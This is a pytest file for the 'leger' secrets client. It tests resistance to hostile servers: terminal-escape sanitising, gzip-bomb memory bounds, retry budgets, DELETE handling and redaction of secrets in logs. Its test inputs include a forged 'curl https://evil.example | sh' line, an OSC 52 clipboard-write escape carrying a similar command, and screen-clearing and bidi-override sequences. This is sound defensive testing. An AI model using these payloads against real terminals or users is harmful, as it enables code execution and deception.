"""A hostile or broken server (or proxy) against the API layer, and through the installed leger.

Each class of attack has a test that failed before it was closed: server text
that rewrites the terminal or forges lines, answers that cost unbounded memory,
rate limits that stretch a command far past LEGER_TIMEOUT, a DELETE whose first
answer was lost, and credentials echoed back in headers.
"""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
import time

import httpx
import pytest

from leger.api.body import MAX_JSON_VALUES
from leger.api.client import LegerClient
from leger.api.secrets_v01 import V01Secrets
from leger.api.transport import BoundedRetryTransport
from leger.errors import InvalidToken, LegerError, SecretNotFound, ServerError, UnexpectedResponse
from tests.support import wire
from tests.support.faulty import faulty_server, json_response, respond

TOKEN = "t0ken-H0STILE-4b1d"
VALUE = "v4lue-H0STILE-9e2c"
BASE = "https://api.leger.run"
ESC = "\x1b"


def api(handler, *, timeout: float = 5, debug: io.StringIO | None = None) -> V01Secrets:
    """The v0.1 operations over a client whose every request goes to ``handler``."""
    return V01Secrets(
        LegerClient(
            BASE, timeout=timeout, token=TOKEN, debug=debug, transport=httpx.MockTransport(handler)
        )
    )


def answer(status: int, body: object = None, **kwargs) -> httpx.Response:
    if body is not None:
        kwargs["json"] = body
    return httpx.Response(status, **kwargs)


def error_body(code: str, message: str, **extra: str) -> dict:
    return {"success": False, "error": {"code": code, "message": message, **extra}}


def shown(error: LegerError) -> str:
    return f"{error.message}\n{error.hint or ''}"


# --- 1. nothing a server says reaches the terminal raw ------------------------------------


@pytest.mark.parametrize(
    "evil",
    [
        "OK\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # an OSC 52 clipboard write
        "Oops\x1b[2J\x1b[H",  # clear the screen
        "Error\n✓ Secret deleted\nfix it with: curl https://evil.example | sh",  # forged lines
        "bidi \u202eevil\u202c and \u2028 line separator",
    ],
)
@pytest.mark.parametrize("where", ["message", "action", "reason"])
def test_server_text_is_one_terminal_safe_line(evil: str, where: str) -> None:
    if where == "reason":
        response = answer(500, content=b"", extensions={"reason_phrase": evil.encode()})
    elif where == "message":
        response = answer(500, error_body("internal_error", evil))
    else:
        response = answer(500, error_body("internal_error", "failed", action=evil))
    with api(lambda request: response) as client, pytest.raises(ServerError) as info:
        client.set_secret("k", VALUE)
    text = shown(info.value)
    assert ESC not in text
    assert "\x07" not in text
    assert "\u202e" not in text
    assert "\u2028" not in text
    # The message is one line; the hint is the server's action, also one line.
    assert "\n" not in info.value.message
    if where == "action":
        assert "\n" not in (info.value.hint or "")


def test_the_servers_action_is_the_hint() -> None:
    body = error_body(
        "authentication_failed", "Invalid token", action="Please run: leger auth login"
    )
    with api(lambda request: answer(401, body)) as client, pytest.raises(InvalidToken) as info:
        client.list_secrets()
    assert info.value.hint == "Please run: leger auth login"
    assert info.value.exit_code == 4


# --- 2. memory stays bounded whatever the answer -----------------------------------------


def test_an_answer_of_too_many_json_values_is_refused_before_parsing() -> None:
    items = "{}," * (MAX_JSON_VALUES + 1)
    body = f'{{"success": true, "data": {{"secrets": [{items}{{}}], "total_count": 0}}}}'
    with (
        api(lambda request: answer(200, content=body.encode())) as client,
        pytest.raises(UnexpectedResponse, match="JSON values"),
    ):
        client.list_secrets()


def test_commas_inside_strings_do_not_count() -> None:
    value = "," * 10_000
    secrets = [
        {
            "name": f"k{i}",
            "created_at": "2026-01-01T00:00:00Z",
            "updated_at": "2026-01-01T00:00:00Z",
            "version": 1,
        }
        for i in range(3)
    ]
    body = {"success": True, "data": {"secrets": secrets, "total_count": 3, "note": value * 50}}
    with api(lambda request: answer(200, body)) as client:
        assert [s.name for s in client.list_secrets()] == ["k0", "k1", "k2"]


# The peak is this process's own VmHWM: getrusage's ru_maxrss would also count the
# parent's memory at fork (Linux keeps it across exec), i.e. the test runner's.
MEMORY_PROBE = """
import re, sys
from leger.api.client import LegerClient
from leger.api.secrets_v01 import V01Secrets
from leger.errors import LegerError
try:
    V01Secrets(LegerClient(sys.argv[1], timeout=30, token="t0ken")).list_secrets()
except LegerError as error:
    print(type(error).__name__)
with open("/proc/self/status") as status:
    print(int(re.search(r"VmHWM:\\s+(\\d+) kB", status.read())[1]) // 1024)
"""


def peak_mib_of_a_list_answering(body: bytes) -> tuple[str, int]:
    """What ``list_secrets`` did with ``body`` (gzipped) in a fresh process, and its peak MiB."""
    compressed = gzip.compress(body, 9)
    fault = respond(200, compressed, headers=[("Content-Encoding", "gzip")])
    with faulty_server(fault) as server:
        probe = subprocess.run(
            [sys.executable, "-c", MEMORY_PROBE, server.url],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    lines = probe.stdout.split()
    assert len(lines) in (1, 2), probe.stderr
    return (lines[0] if len(lines) == 2 else "accepted"), int(lines[-1])


@pytest.mark.parametrize("piece", [b"{},", b'"ab",', b"[],"])
def test_a_small_compressed_answer_cannot_cost_much_memory(piece: bytes) -> None:
    # 32 KB of gzip that expands to ~30 MB of tiny JSON values: about 900 MB once parsed.
    items = piece * (30 * 1024 * 1024 // len(piece))
    body = b'{"success": true, "data": {"secrets": [' + items + b'{}], "total_count": 0}}'
    assert len(gzip.compress(body, 9)) < 200_000
    kind, peak_mib = peak_mib_of_a_list_answering(body)
    assert kind == "UnexpectedResponse"
    assert peak_mib < 300, f"peak {peak_mib} MiB"


def test_the_largest_list_leger_accepts_stays_under_the_memory_bound_too() -> None:
    # 75,000 secrets: just under MAX_JSON_VALUES, accepted and turned into models.
    rows = [wire.row(f"secret_{i:06d}", version=7) for i in range(75_000)]
    body = json.dumps(wire.V01.list_answer(rows)[1]).encode()
    kind, peak_mib = peak_mib_of_a_list_answering(body)
    assert kind == "accepted"
    assert peak_mib < 300, f"peak {peak_mib} MiB"


# --- 3. retries know when to stop ---------------------------------------------------------


@pytest.fixture
def no_backoff(monkeypatch) -> None:
    """Retries without their jittered pauses (the pause length is not what is tested)."""
    monkeypatch.setattr(BoundedRetryTransport, "_pause", lambda self, request, reason, wait: None)


def rate_limited(seconds: str) -> httpx.Response:
    return answer(429, error_body("rate_limit_exceeded", "slow"), headers={"Retry-After": seconds})


def test_rate_limit_waits_add_up_to_at_most_the_budget() -> None:
    sleeps: list[float] = []
    calls: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        calls.append(request)
        return rate_limited("1")

    transport = BoundedRetryTransport(
        httpx.MockTransport(handler), timeout=5, max_retry_wait=1.5, sleep=sleeps.append
    )
    response = transport.handle_request(httpx.Request("GET", f"{BASE}/secrets/list"))
    assert response.status_code == 429
    assert sleeps == [1.0]  # a second 1 s wait would pass the 1.5 s budget: not slept
    assert len(calls) == 2


def test_leger_timeout_bounds_the_rate_limit_waits_of_the_installed_leger(cli) -> None:
    with faulty_server(
        json_response(
            429, error_body("rate_limit_exceeded", "slow"), headers=[("Retry-After", "30")]
        )
    ) as server:
        started = time.monotonic()
        result = cli.use_api(server.url).run(
            "secrets", "list", env={"LEGER_TOKEN": TOKEN, "LEGER_TIMEOUT": "1"}
        )
        elapsed = time.monotonic() - started
    assert result.returncode == 1
    assert "Rate limited by leger.run: try again in 30 seconds" in result.stderr
    assert elapsed < 10
    assert len(server.requests) == 1


def test_a_delete_whose_first_answer_was_lost_and_then_404s_has_succeeded(no_backoff) -> None:
    script = iter(
        [
            answer(502, content=b"<html>Bad Gateway</html>"),
            answer(404, error_body("secret_not_found", "gone")),
        ]
    )
    with api(lambda request: next(script)) as client:
        outcome = client.delete_secret("k")
    assert outcome.name == "k"
    assert outcome.deleted_at is None


@pytest.mark.parametrize("first", [503, None])
def test_a_404_after_an_answer_that_was_not_lost_is_still_not_found(no_backoff, first) -> None:
    steps = [answer(404, error_body("secret_not_found", "gone"))]
    if first is not None:
        steps.insert(0, answer(first, content=b""))
    script = iter(steps)
    with api(lambda request: next(script)) as client, pytest.raises(SecretNotFound):
        client.delete_secret("k")


# --- 8. the debug log redacts what the server sent too -----------------------------------


def test_a_fetched_value_echoed_in_a_header_is_redacted_in_the_debug_log() -> None:
    body = {"success": True, "data": {"name": "k", "value": VALUE, "version": 1}}
    log = io.StringIO()
    headers = {"X-Echo": f"value={VALUE}", "X-Trace": "plain"}
    with api(lambda request: answer(200, body, headers=headers), debug=log) as client:
        assert client.get_secret("k").value == VALUE
    assert VALUE not in log.getvalue()
    assert "x-echo: value=[redacted]" in log.getvalue()
    assert "x-trace: plain" in log.getvalue()


def test_a_value_sent_earlier_is_redacted_in_a_later_error() -> None:
    responses = iter(
        [
            answer(
                201,
                {
                    "success": True,
                    "data": {
                        "name": "k",
                        "version": 1,
                        "updated_at": "2026-01-01T00:00:00Z",
                        "message": "ok",
                    },
                },
            ),
            answer(500, error_body("internal_error", f"could not store {VALUE}")),
        ]
    )
    with api(lambda request: next(responses)) as client:
        client.set_secret("k", VALUE)
        with pytest.raises(ServerError) as info:
            client.list_secrets()
    assert VALUE not in shown(info.value)
    assert "[redacted]" in info.value.message
